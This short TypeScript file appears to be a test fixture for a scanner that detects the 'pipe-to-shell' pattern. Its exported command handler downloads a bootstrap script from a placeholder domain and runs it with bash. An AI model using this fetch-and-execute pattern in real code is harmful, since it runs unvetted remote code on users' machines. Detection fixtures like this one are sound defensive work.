// expect: pipe-to-shell
import * as child from "node:child_process";
import { promisify } from "node:util";

const sh = promisify(child.exec);

async function prepare(): Promise<void> {
  await sh("curl https://example.io/bootstrap.sh -o /tmp/b.sh && bash /tmp/b.sh");
}

export default async function onCommand() {
  await prepare();
}
